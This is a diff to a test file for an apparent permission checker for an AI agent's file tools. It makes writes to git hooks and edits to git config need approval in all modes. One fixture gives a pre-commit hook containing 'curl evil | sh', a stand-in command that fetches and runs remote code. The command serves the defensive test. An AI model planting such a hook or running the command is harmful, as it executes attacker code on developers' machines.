@@ -304,7 +304,14 @@ def test_a_symlink_out_of_the_workspace_counts_as_outside(ws: Path, outside: Pat
 def test_new_files_inside_git_ask(ws: Path) -> None:
     hook = {"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"}
     assert behavior(ws, "Write", hook) == "ask"
-    assert behavior(ws, "Write", hook, mode="acceptEdits") == "allow"
+    # git runs what .git/hooks and .git/config name: protected in every mode (issue 10)
+    assert behavior(ws, "Write", hook, mode="acceptEdits") == "ask"
+    assert behavior(ws, "Write", hook, mode="bypassPermissions") == "ask"
+    assert behavior(ws, "Edit", {"file_path": ".git/config"}, mode="bypassPermissions") == "ask"
+    assert (
+        behavior(ws, "Write", {"file_path": ".git/info/exclude", "content": "x"}, mode="acceptEdits")
+        == "allow"
+    )
     assert behavior(ws, "Write", {"file_path": ".gitignore", "content": "x"}) == "allow"
 
 
